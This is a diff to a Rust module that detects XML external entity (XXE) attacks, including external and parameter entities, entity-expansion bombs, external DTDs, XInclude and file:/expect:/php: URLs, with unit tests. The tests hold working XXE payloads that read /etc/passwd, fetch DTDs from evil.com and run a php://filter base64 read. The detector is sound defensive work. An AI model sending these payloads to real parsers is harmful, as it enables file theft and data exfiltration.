@@ -1,7 +1,174 @@
-//! (stub; being written)
+//! XML external entities. Flags the XML constructs that make a parser fetch or expand
+//! something: entity declarations with an external identifier (`<!ENTITY x SYSTEM "file:...">`,
+//! `PUBLIC`), parameter entities (`<!ENTITY % x ...>`, `%x;`), entity expansion bombs, a DOCTYPE
+//! that loads an external DTD, XInclude, and resource URLs with local or wrapper schemes
+//! (`file:`, `expect:`, `php:`) inside XML attributes.
+//!
+//! Matching is case-insensitive and tolerates whitespace inside `<! DOCTYPE`. Ordinary XML, RSS,
+//! SVG and `<!DOCTYPE html>` have none of these and pass; a DOCTYPE naming a public W3C DTD
+//! (XHTML) is ordinary too.
 
+use crate::check::Check;
 use crate::finding::Finding;
 
-pub fn inspect(_text: &str) -> Option<Finding> {
-    None
+/// Declarations examined per value.
+const MAX_DECLS: usize = 64;
+
+pub fn inspect(text: &str) -> Option<Finding> {
+    if !text.contains('<') && !text.contains('%') {
+        return None;
+    }
+    // Whitespace removed and lower-cased: `<! DOCTYPE` and `<!ENTITY` spelled any way.
+    let squeezed: String = text
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .flat_map(|c| c.to_lowercase())
+        .collect();
+    let lower = text.to_lowercase();
+    let mut best: Option<(f32, String)> = None;
+    let mut keep = |score: f32, why: &str| {
+        if best.as_ref().is_none_or(|(s, _)| score > *s) {
+            best = Some((score, why.to_string()));
+        }
+    };
+    let mut entities = 0;
+    for (at, _) in squeezed.match_indices("<!entity").take(MAX_DECLS) {
+        entities += 1;
+        let decl = decl_body(&squeezed[at + 8..]);
+        let parameter = decl.starts_with('%');
+        let external = decl.contains("system\"")
+            || decl.contains("system'")
+            || decl.contains("public\"")
+            || decl.contains("public'");
+        if external && parameter {
+            keep(
+                0.95,
+                "external parameter entity declaration (<!ENTITY % x SYSTEM ...>)",
+            );
+        } else if external {
+            keep(
+                0.95,
+                "external entity declaration (<!ENTITY x SYSTEM/PUBLIC ...>)",
+            );
+        } else if parameter {
+            keep(0.85, "parameter entity declaration (<!ENTITY % x ...>)");
+        } else if decl.matches('&').count() >= 2 {
+            keep(
+                0.8,
+                "entity whose value expands other entities (expansion bomb)",
+            );
+        } else {
+            keep(0.6, "internal entity declaration in a DOCTYPE");
+        }
+    }
+    if let Some(p) = squeezed.find("<!doctype") {
+        let decl = decl_body(&squeezed[p + 9..]);
+        if decl.contains("system\"") || decl.contains("system'") {
+            keep(0.8, "DOCTYPE loading an external DTD (SYSTEM)");
+        } else if decl.contains("public\"") || decl.contains("public'") {
+            let w3c = decl.contains("//w3c//") && decl.contains("w3.org/");
+            if !w3c {
+                keep(0.7, "DOCTYPE loading an external DTD (PUBLIC)");
+            }
+        }
+        if entities == 0 && decl.contains('[') && param_reference(decl) {
+            keep(0.85, "parameter entity reference inside a DOCTYPE subset");
+        }
+    }
+    if squeezed.contains("<xi:include") || squeezed.contains("w3.org/2001/xinclude") {
+        keep(0.85, "XInclude of another resource");
+    }
+    if text.starts_with('<') || lower.contains("<?xml") || lower.contains("<svg") {
+        for scheme in [
+            "file:", "expect:", "php:", "jar:", "netdoc:", "gopher:", "data:",
+        ] {
+            for quote in ['"', '\''] {
+                if squeezed.contains(&format!("={quote}{scheme}")) {
+                    keep(0.6, "XML attribute referencing a local or wrapper URL");
+                }
+            }
+        }
+    }
+    let (score, why) = best?;
+    Some(Finding::new(Check::Xxe, score, why))
+}
+
+/// The declaration up to its closing `>`, skipping `>` inside quotes and a `[...]` subset.
+fn decl_body(s: &str) -> &str {
+    let mut quote: Option<char> = None;
+    let mut subset = 0usize;
+    for (i, c) in s.char_indices() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '"' | '\'') => quote = Some(c),
+            (None, '[') => subset += 1,
+            (None, ']') => subset = subset.saturating_sub(1),
+            (None, '>') if subset == 0 => return &s[..i],
+            _ => {}
+        }
+    }
+    s
+}
+
+/// `%name;` in a DOCTYPE internal subset.
+fn param_reference(decl: &str) -> bool {
+    decl.match_indices('%').any(|(i, _)| {
+        let rest = &decl[i + 1..];
+        let n = rest
+            .bytes()
+            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
+            .count();
+        n > 0 && rest[n..].starts_with(';')
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn flagged(s: &str) -> bool {
+        inspect(s).is_some_and(|f| f.score >= 0.5)
+    }
+
+    #[test]
+    fn entity_attacks() {
+        for s in [
+            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
+            "<!DOCTYPE foo [<!ENTITY xxe PUBLIC \"-//x//y\" \"http://evil.com/x.dtd\">]>",
+            "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.com/x.dtd\"> %xxe;]>",
+            "<! doctype foo [ <!entity   xxe   system   'file:///c:/boot.ini' > ]>",
+            "<!DOCTYPE foo SYSTEM \"http://evil.com/evil.dtd\"><foo/>",
+            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
+            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
+            "<!DOCTYPE x [ %remote; ]>",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"expect://ls\"/></svg>",
+            "<!ENTITY % file SYSTEM \"php://filter/convert.base64-encode/resource=/etc/passwd\">",
+        ] {
+            assert!(flagged(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn ordinary_xml_passes() {
+        for s in [
+            "<!DOCTYPE html><html><body><b>bold</b></body></html>",
+            "<?xml version=\"1.0\"?><order><city>Zürich</city><qty>2</qty></order>",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\"><rect x=\"1\"/></svg>",
+            "<rss version=\"2.0\"><channel><title>News</title><link>https://example.com/</link></channel></rss>",
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
+            "a < b and c > d",
+            "50% off; 20% more",
+            "The ENTITY keyword is described in the XML spec",
+        ] {
+            assert!(!flagged(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn hostile_input_does_not_panic() {
+        let _ = inspect(&"<!ENTITY".repeat(20_000));
+        let _ = inspect(&"<!DOCTYPE [".repeat(10_000));
+        let _ = inspect("<!DOCTYPE é [ %ü; ]>");
+    }
 }
